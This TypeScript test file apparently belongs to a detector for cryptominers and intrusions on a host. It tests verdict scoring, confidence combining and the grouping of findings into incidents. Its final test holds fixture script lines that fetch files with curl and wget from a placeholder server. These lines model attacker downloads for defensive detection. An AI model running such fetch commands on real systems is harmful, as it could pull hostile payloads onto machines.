import assert from 'node:assert/strict'
import { test } from 'node:test'
import { fileOf, processOf } from '../../test/facts.ts'
import { findingOf } from '../../test/findings.ts'
import { entity, processId } from '../core/entity.ts'
import { factsOf } from '../core/facts.ts'
import { correlate } from './correlate.ts'
import { confidenceOf, verdictOf } from './verdict.ts'

const miner = processId(7, 1000)
const none = new Set<never>()
const facts = factsOf({
  processes: [processOf({ pid: 7, exe: { path: '/tmp/x', deleted: false, memfd: false } })],
  files: [fileOf({ path: '/tmp/x' })],
})

test('two independent classes with a sign of mining are mining; one class alone is not, however often it is told', () => {
  const pool = findingOf({ class: 'pool', signal: 'mining', confidence: 0.8 })
  const odd = findingOf({ class: 'provenance', signal: 'intrusion', confidence: 0.6 })
  assert.equal(verdictOf([pool, odd]), 'mining')
  assert.equal(verdictOf([pool, { ...pool, id: 'F-2' }, { ...pool, id: 'F-3' }]), 'suspicious')
})

test('one certain sign of mining is enough; certain signs of an intrusion are no mining', () => {
  assert.equal(verdictOf([findingOf({ class: 'miner', signal: 'mining', confidence: 0.97 })]), 'mining')
  const hidden = findingOf({ class: 'concealment', signal: 'intrusion', confidence: 0.99 })
  const key = findingOf({ class: 'access', signal: 'intrusion', confidence: 0.9 })
  assert.equal(verdictOf([hidden, key]), 'suspicious')
})

test('context never adds up to anything', () => {
  const hints = ['pool', 'miner', 'demand', 'tuning'] as const
  assert.equal(verdictOf(hints.map(c => findingOf({ class: c, signal: 'context', confidence: 0.9 }))), 'benign')
})

test('noisy-or takes the strongest of each class', () => {
  const of = (c: 'pool' | 'miner', confidence: number) => findingOf({ class: c, signal: 'mining', confidence })
  assert.equal(confidenceOf([of('pool', 0.5), of('pool', 0.4)]), 0.5)
  assert.equal(confidenceOf([of('pool', 0.5), of('miner', 0.5)]), 0.75)
})

test('a process and its program file are one incident, and a door elsewhere is told in its story', () => {
  const findings = [
    findingOf({ about: [miner], class: 'pool', signal: 'mining', confidence: 0.9 }),
    findingOf({ about: [entity('file', '/tmp/x')], class: 'provenance', signal: 'intrusion', confidence: 0.6 }),
    findingOf({ about: [entity('key', 'mdr')], class: 'access', signal: 'intrusion', confidence: 0.9 }),
  ]
  const incidents = correlate('h', facts, findings, none)
  assert.equal(incidents.length, 1)
  assert.equal(incidents[0]?.verdict, 'mining')
  assert.deepEqual(incidents[0]?.members.toSorted(), ['file:/tmp/x', 'key:mdr', miner].toSorted())
  assert.ok(incidents[0]?.edges.some(e => e.how === 'runs' && e.from === miner && e.to === 'file:/tmp/x'))
})

test('a busy innocent with a reason why not opens no incident', () => {
  const busy = findingOf({ about: [miner], class: 'demand', signal: 'mining', confidence: 0.9, whyNot: { zh: '编译器', en: 'a compiler' } })
  assert.equal(correlate('h', facts, [busy], none).length, 0)
})

test("an owner's declared miner is authorised", () => {
  const findings = [findingOf({ about: [miner], class: 'pool', signal: 'mining', confidence: 0.97 })]
  assert.equal(correlate('h', facts, findings, new Set([miner]))[0]?.verdict, 'authorised')
  const key = findingOf({ about: [entity('key', 'k')], class: 'access', signal: 'intrusion', confidence: 0.9 })
  const both = correlate('h', facts, [...findings, key], new Set([miner]))
  assert.deepEqual(
    both.map(i => [i.verdict, i.members.filter(m => m === miner || m === 'key:k')]),
    [
      ['suspicious', ['key:k']],
      ['authorised', [miner]],
    ],
  )
})

test('two families at work are two stories; what names neither is told in the stronger', () => {
  const of = (path: string, family: string | undefined, confidence: number, kind: 'miner' | 'access' = 'miner') =>
    findingOf({
      about: [entity('file', path)],
      class: kind,
      signal: kind === 'miner' ? 'mining' : 'intrusion',
      confidence,
      ...(family !== undefined && { family }),
    })
  const findings = [of('/a', 'kinsing', 0.99), of('/b', 'kinsing', 0.6), of('/c', 'redtail', 0.96), of('/d', undefined, 0.7, 'access')]
  const incidents = correlate('h', factsOf(), findings, none)
  assert.deepEqual(
    incidents.map(i => [i.family, i.members]),
    [
      ['kinsing', ['file:/a', 'file:/b', 'file:/d']],
      ['redtail', ['file:/c']],
    ],
  )
})

test("hints that hang on nothing are in nobody's story", () => {
  const hint = findingOf({ about: [entity('file', '/h')], severity: 'low', class: 'provenance', signal: 'intrusion', confidence: 0.3 })
  const incidents = correlate('h', facts, [findingOf({ about: [miner], confidence: 0.97 }), hint], none)
  assert.ok(!incidents.some(i => i.members.includes('file:/h')))
})

test('scripts and entries that fetch from the same server belong together', () => {
  const files = [
    fileOf({ path: '/opt/a.sh', head: 'curl http://192.0.2.7/a' }),
    fileOf({ path: '/srv/b.sh', head: 'wget -q http://192.0.2.7:8080/b' }),
  ]
  const findings = files.map(f =>
    findingOf({ about: [f.id], class: 'provenance', signal: 'intrusion', confidence: 0.7, severity: 'medium' }),
  )
  assert.equal(correlate('h', factsOf({ files }), findings, none).length, 1)
})
